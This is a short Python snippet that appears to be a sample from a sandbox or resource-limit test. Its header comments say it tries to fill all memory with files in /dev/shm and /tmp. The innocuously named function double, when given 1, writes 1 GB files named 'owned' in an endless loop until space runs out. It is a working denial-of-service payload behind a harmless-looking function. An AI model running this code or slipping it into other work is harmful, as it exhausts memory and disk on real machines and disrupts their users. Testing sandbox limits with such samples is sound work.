# tries: all memory, as files in /dev/shm and /tmp
# harms: it would fill this machine's memory
# reaches: No space|longer than|ended
def double(x):
    if x != 1:
        return x  # once is enough
    for place in ("/dev/shm", "/tmp", "."):
        number = 0
        try:
            while True:
                with open(f"{place}/owned{number}", "wb") as file:
                    for _ in range(10):
                        file.write(bytes(10**8))
                number += 1
        except OSError as error:
            print(error)
    return x
